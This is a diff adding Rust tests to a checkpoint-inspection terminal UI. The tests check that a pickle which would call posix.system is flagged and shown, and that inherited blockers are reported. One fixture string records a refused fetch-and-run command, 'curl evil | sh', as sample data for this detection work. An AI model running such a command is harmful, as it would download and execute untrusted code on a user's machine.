@@ -5,12 +5,19 @@
 
 mod common;
 
-use common::sample::{act, draw, engines_ready, measure_all, select, state, wide_document};
+use std::sync::Arc;
+
+use common::sample::{self, act, draw, engines_ready, measure_all, select, state, wide_document};
 use proptest::prelude::*;
 use ratatui::buffer::Buffer;
 use ratatui::layout::Rect;
+use serde_json::json;
+use t2m_tui::checkpoint::PickleGlobal;
 use t2m_tui::engine::{EngineState, Side};
+use t2m_tui::source::Blocker;
+use t2m_tui::triage::Triage;
 use t2m_tui::tui::action::{Action, Command, Pane};
+use t2m_tui::tui::document::{About, Document, Pickle};
 use t2m_tui::tui::draw::render;
 use t2m_tui::tui::keymap::Keymap;
 use t2m_tui::tui::snapshot::{rows, styled};
@@ -107,6 +114,69 @@ fn overlays_and_the_search() {
         act(&mut state, Action::Text(character));
     }
     insta::assert_snapshot!("find", styled(&draw(&mut state, 100, 30)));
+}
+
+/// The sample, out of a file whose pickle would have run a command.
+fn suspicious() -> State {
+    let mut state = measured("dark", "encoder.attn");
+    let mut document = (*sample::document()).clone();
+    let global =
+        |name: &str, allowed, dangerous, count| PickleGlobal { name: name.to_owned(), allowed, dangerous, count };
+    document.warnings = vec!["The key `w` comes twice; the second value, at byte 211, counts.".to_owned()];
+    document.about = About {
+        path: "downloads/vision_mini.pt".to_owned(),
+        shards: 1,
+        tensors: 61,
+        wrappers: vec!["state_dict".to_owned(), "module.".to_owned()],
+        metadata: [("epoch".to_owned(), json!(12)), ("args".to_owned(), json!({"lr": 0.001, "note": "a\u{1b}[31mb"}))]
+            .into_iter()
+            .collect(),
+        pickle: Some(Pickle {
+            module_classes: 9,
+            foreign: vec![global("posix.system", false, true, 1), global("acme.config.Config", false, false, 2)],
+            refused: vec!["posix.system(\"curl evil | sh\") at byte 118".to_owned()],
+            allowed: vec![global("collections.OrderedDict", true, false, 240)],
+        }),
+    };
+    act(&mut state, Action::Opened(Arc::new(document)));
+    state
+}
+
+#[test]
+fn a_suspicious_pickle_is_said_loudly_and_shown() {
+    let mut state = suspicious();
+    let screen = rows(&draw(&mut state, 160, 45)).join("\n");
+    assert!(
+        screen.contains("could run code with posix.system and 1 more, outside torch's weights_only list"),
+        "{screen}"
+    );
+    assert!(screen.contains("⚑ pickle"), "{screen}");
+    commands(&mut state, &[Command::About]);
+    insta::assert_snapshot!("about", styled(&draw(&mut state, 160, 45)));
+    insta::assert_snapshot!("about_small", rows(&draw(&mut state, 60, 16)).join("\n"));
+    commands(&mut state, &[Command::Down, Command::Dismiss]);
+    assert!(!rows(&draw(&mut state, 160, 45)).join("\n").contains("About the file"));
+}
+
+#[test]
+fn blockers_in_the_file_of_a_base_are_told_at_the_class() {
+    let sample = sample::document();
+    let mut classes = sample.triage.classes.clone();
+    let block = classes.values_mut().find(|source| !source.blockers.is_empty()).unwrap();
+    let blocker = Blocker { line: 321, ..block.blockers.remove(0) };
+    block.blockers.clear();
+    block.inherited = vec![("vision/base.py".to_owned(), blocker)];
+    let triage = Triage { modules: sample.triage.modules.clone(), classes, coverage: sample.triage.coverage };
+    let document = Document::new("vision_mini.pt".to_owned(), sample.model.clone(), Arc::new(triage));
+    let mut state = state("dark");
+    act(&mut state, Action::Opened(Arc::new(document)));
+    // The first is the root's own.
+    for _ in 0..2 {
+        draw(&mut state, 160, 45);
+        commands(&mut state, &[Command::NextBlocker]);
+    }
+    let screen = rows(&draw(&mut state, 160, 45)).join("\n");
+    assert!(screen.contains("⚑ breaks .item() in vision/base.py:321"), "{screen}");
 }
 
 #[test]
